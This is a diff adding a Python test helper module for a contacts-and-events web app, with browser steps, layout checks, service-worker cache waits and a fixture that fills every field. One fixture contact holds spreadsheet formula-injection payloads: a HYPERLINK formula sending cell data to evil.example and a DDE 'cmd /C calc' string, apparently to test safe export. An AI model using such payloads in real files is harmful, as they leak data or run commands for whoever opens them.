@@ -1,0 +1,234 @@
+"""What the tests do again and again, in one place: a person's steps through the forms and in the browser,
+checks every page must pass, and an account with something in every field."""
+
+import datetime
+import re
+import sqlite3
+import uuid
+from datetime import date, time
+from datetime import datetime as at
+from pathlib import Path
+from zoneinfo import ZoneInfo
+
+from webapp import db
+from webapp.models import Conversation, Event, FollowUp, Outcome, Person, Tag, User
+
+ROOT = Path(__file__).resolve().parent.parent
+PASSWORD = "correct horse battery"
+
+
+# --- Through the test client ----------------------------------------------------------------------
+
+def today():
+    """Today for the test user, who lives in Europe/London."""
+    return datetime.datetime.now(ZoneInfo("Europe/London")).date()
+
+
+def add_event(client, name="PyData Berlin", day=None, **fields):
+    """Plan an event through the form; returns its address."""
+    data = {"name": name, "starts_on": (day or today()).isoformat(), "kind": "meetup", "goal": "3"}
+    data.update(fields)
+    response = client.post("/events/new", data=data)
+    assert response.status_code == 302, response.get_data(as_text=True)
+    return response.headers["Location"]
+
+
+# --- An account with something in every model and every field: unicode, empty values, nulls, dates, times --
+
+NOTES_WITH_PUNCTUATION = ('Talked about CRDTs, "local-first"; wants an intro to Sam.\n'
+                          "Second line, with a comma\n\tand a tab")
+
+
+def account(email="ada@example.com"):
+    with db.database().connection_context():
+        return User.get(User.email == email)
+
+
+def fill(user_id):
+    """Two events, four people (one met at both), tags, follow-ups in every state, outcomes. Returns ids."""
+    with db.database().connection_context(), db.write():
+        User.update(display_name="Ada Lovelace ✨", headline="Engineer, analyst; poet",
+                    linkedin_url="https://www.linkedin.com/in/ada/", timezone="Europe/London",
+                    created_at=at(2025, 1, 2, 3, 4, 5, 678901)).where(User.id == user_id).execute()
+        pydata = Event.create(
+            owner=user_id, name="PyData Berlin: Dezember, Käse & Pizza", starts_on=date(2026, 12, 3),
+            start_time=time(18, 30), end_time=time(21, 45, 30), ends_on=date(2026, 12, 4),
+            timezone="Europe/Berlin", place="Valeska-Gert-Straße 5, Berlin", kind="meetup",
+            link="https://www.meetup.com/pydata-berlin/events/301234567/",
+            description="Zwei Vorträge\nDoors at 18:30; talks, then pizza", goal=5,
+            goal_note="find who is hiring",
+            ics_uid="event_301234567@meetup.com", created_at=at(2026, 11, 1, 9, 0, 0, 1))
+        tokyo = Event.create(owner=user_id, name="東京 Rust 勉強会", starts_on=date(2026, 1, 15),
+                             kind="industry", goal=1, created_at=at(2026, 1, 1, 12, 0))
+        bruce = Person.create(owner=user_id, name="李小龍", company="Golden Harvest, Ltd.",
+                              role="CTO; founder",
+                              email="bruce@example.com", phone="+852 2345 6789",
+                              linkedin_url="https://www.linkedin.com/in/bruce-lee/",
+                              hiring=True, connected_on_linkedin=True,
+                              created_at=at(2026, 1, 15, 19, 0, 0, 123456))
+        zoe = Person.create(owner=user_id, name="Zoë Ægirsdóttir", description="red jacket, Postgres talk",
+                            company="Ørsted", role="Data engineer", created_at=at(2026, 12, 3, 19, 5))
+        nameless = Person.create(owner=user_id, description="tall guy; asked about \"sync\", Kotlin",
+                                 created_at=at(2026, 12, 3, 20, 0))
+        sneaky = Person.create(owner=user_id, name='=HYPERLINK("http://evil.example/?"&A1,"click")',
+                               company="+1 (555) 0100", role="-2+3", email="@attacker",
+                               created_at=at(2026, 12, 3, 20, 30))
+        Conversation.create(uuid=uuid.UUID("0f8b7c2e-1111-4a4a-9c9c-123456789abc"), person=bruce, event=tokyo,
+                            notes="Rust in games", created_at=at(2026, 1, 15, 19, 1))
+        Conversation.create(person=bruce, event=pydata, notes=NOTES_WITH_PUNCTUATION,
+                            created_at=at(2026, 12, 3, 19, 0))
+        Conversation.create(person=zoe, event=pydata, notes="Ørsted is hiring; ask Zoë about Kafka",
+                            created_at=at(2026, 12, 3, 19, 6))
+        Conversation.create(person=nameless, event=pydata, notes="", created_at=at(2026, 12, 3, 20))
+        Conversation.create(person=sneaky, event=pydata, notes="@SUM(1+1)*cmd|' /C calc'!A0",
+                            created_at=at(2026, 12, 3, 20, 31))
+        bruce.set_tags(["rust", "founder", "日本語"])
+        zoe.set_tags(["data", "hiring-manager"])
+        Tag.create(owner=user_id, name="unused tag")
+        FollowUp.create(person=bruce, event=pydata, reason="send the article on CDC, then intro to Sam",
+                        due_on=date(2026, 12, 5), created_at=at(2026, 12, 3, 19, 2))
+        FollowUp.create(person=zoe, event=pydata, reason="Kafka talk slides", due_on=date(2026, 12, 5),
+                        done_on=date(2026, 12, 6))
+        FollowUp.create(person=nameless, event=None, reason="", due_on=date(2026, 12, 7),
+                        dropped_on=date(2026, 12, 8))
+        Outcome.create(person=bruce, kind="job_lead", happened_on=date(2027, 2, 1),
+                       text="Offer to lead the data team — “dream job”",
+                       created_at=at(2027, 2, 1, 8, 0))
+        Outcome.create(person=zoe, kind="friendship", happened_on=date(2027, 3, 1), text="")
+        return {"pydata": pydata.id, "tokyo": tokyo.id, "bruce": bruce.id, "zoe": zoe.id,
+                "nameless": nameless.id, "sneaky": sneaky.id}
+
+
+# --- In the browser ---------------------------------------------------------------------------------
+
+def sign_up(page, base_url, name="Ada Lovelace", linkedin=None):
+    """A new account through the real forms, with its LinkedIn profile if given; returns its email."""
+    email = f"{name.split()[0].lower()}-{uuid.uuid4().hex[:8]}@example.com"
+    page.goto(base_url + "/signup")
+    page.get_by_label("Your name").fill(name)
+    page.get_by_label("Email").fill(email)
+    page.get_by_label("Password").fill(PASSWORD)
+    page.get_by_role("button", name="Sign up").click()
+    page.wait_for_url(re.compile(r".*/profile$"))
+    if linkedin:
+        page.fill("#display_name", name)
+        page.fill("#linkedin_url", linkedin)
+        page.click("form.stack button[type=submit]")
+        page.wait_for_url(re.compile(r".*/card$"))
+    return email
+
+
+def no_horizontal_scroll(page):
+    # Compared with the screen's width, not window.innerWidth: on a phone the layout viewport
+    # grows to fit content that overflows, which would hide the very problem.
+    return page.evaluate("document.documentElement.scrollWidth") <= page.viewport_size["width"]
+
+
+def small_tap_targets(page):
+    """Visible links, buttons and inputs smaller than 44 px in either direction (inline text links excepted)."""
+    return page.evaluate("""() => [...document.querySelectorAll(
+            'a, button, input:not([type=hidden]), select, textarea, summary')]
+        // Inline text links, and inputs made invisible inside a label that is the real button, are exempt.
+        .filter(e => e.offsetParent !== null && !(e.tagName === 'A' && getComputedStyle(e).display === 'inline'))
+        .filter(e => getComputedStyle(e).opacity !== '0' || !e.closest('label'))
+        .filter(e => e.type !== 'checkbox')
+        .map(e => [e.outerHTML.slice(0, 80), e.getBoundingClientRect()])
+        .filter(([html, r]) => r.right > 0 && (r.width < 44 || r.height < 44))
+        .map(([html, r]) => html + ' ' + Math.round(r.width) + 'x' + Math.round(r.height))""")
+
+
+# Run by wait_for_function on each poll: it takes a pending promise for a true answer, so the page asks
+# again whenever the last answer is in and reports that answer.
+ASK_AGAIN = """token => {
+    const asked = (globalThis[token] ??= {pending: false, answer: false, error: null});
+    // Before the page's deferred scripts have run, what the promise uses is not defined yet: ask again.
+    if (asked.error && !(asked.error instanceof ReferenceError)) throw asked.error;
+    if (!asked.pending) {
+        asked.pending = true;
+        Promise.resolve().then(() => PROMISE)
+            .then(answer => { asked.answer = answer; }, error => { asked.error = error; })
+            .finally(() => { asked.pending = false; });
+    }
+    return asked.answer;
+}"""
+
+
+def wait_for_promise(page, promise, timeout=10_000):
+    """Wait until a promise in the page (about IndexedDB, the caches) answers true; through reloads the app
+    makes on its own, too."""
+    page.wait_for_function(ASK_AGAIN.replace("PROMISE", promise), arg="hallway-wait-" + uuid.uuid4().hex,
+                           polling=50, timeout=timeout)
+
+
+# --- At the venue: the phone's service worker, its queue, and what reached the server -------------------
+
+CACHE_VERSION = re.search(r'const CACHE_VERSION = "([^"]+)"', (ROOT / "static/js/sw.js").read_text()).group(1)
+PAGES_CACHE = CACHE_VERSION + "-pages"
+
+
+def log_in(page, base_url, email):
+    page.goto(base_url + "/login")
+    page.fill("#email", email)
+    page.fill("#password", PASSWORD)
+    page.click("button[type=submit]")
+    page.wait_for_url(base_url + "/")
+
+
+def add_event_today(page, base_url, name):
+    """Plan today's event (the date defaults to today); returns its id."""
+    page.goto(base_url + "/events/new")
+    page.fill("#name", name)
+    page.click("form.stack button[type=submit]")
+    page.wait_for_url(re.compile(r".*/events/\d+$"))
+    return int(page.url.rsplit("/", 1)[1])
+
+
+def kept_pages(page):
+    return page.evaluate(
+        """name => caches.has(name).then(has => has ? caches.open(name).then(c => c.keys()) : [])
+                .then(keys => keys.map(r => new URL(r.url).pathname))""", PAGES_CACHE)
+
+
+def visit_home_until_kept(page, base_url, paths):
+    """A first visit: the service worker installs and keeps the event-day pages on the phone."""
+    page.goto(base_url + "/")
+    page.evaluate("navigator.serviceWorker.ready.then(() => true)")
+    if not page.evaluate("Boolean(navigator.serviceWorker.controller)"):
+        page.reload()
+    wait_for_promise(page, f"""caches.has({PAGES_CACHE!r})
+        .then(has => has ? caches.open({PAGES_CACHE!r}).then(c => c.keys()) : [])
+        .then(keys => {sorted(paths)!r}.every(path => keys.some(r => new URL(r.url).pathname === path)))""")
+
+
+def waiting_entries(page):
+    return page.evaluate("HallwayQueue.entries(null)")
+
+
+def stored_meetings(database, event_id):
+    """(uuid, name, notes, linkedin) of everyone stored at the event, read straight from the server's file."""
+    with sqlite3.connect(database) as conn:
+        rows = conn.execute(
+            "SELECT c.uuid, p.name, c.notes, p.linkedin_url, p.company, p.role, p.email FROM conversation c "
+            "JOIN person p ON p.id = c.person_id WHERE c.event_id = ? ORDER BY c.id", (event_id,)).fetchall()
+    conn.close()
+    return rows
+
+
+def hex_uuid(text):
+    return uuid.UUID(text).hex
+
+
+def qr_png(text, path: Path, code_size=560, frame=(640, 600)):
+    """A QR code of text, code_size pixels wide, centred on a white image (a photo, or a camera's frame)."""
+    import qrcode
+    from PIL import Image
+
+    code = qrcode.QRCode(border=4, box_size=10, error_correction=qrcode.constants.ERROR_CORRECT_M)
+    code.add_data(text)
+    code.make(fit=True)
+    image = code.make_image(fill_color="black", back_color="white").convert("RGB")
+    image = image.resize((code_size, code_size), Image.NEAREST)
+    canvas = Image.new("RGB", frame, "white")
+    canvas.paste(image, ((canvas.width - image.width) // 2, (canvas.height - image.height) // 2))
+    canvas.save(path)
+    return path
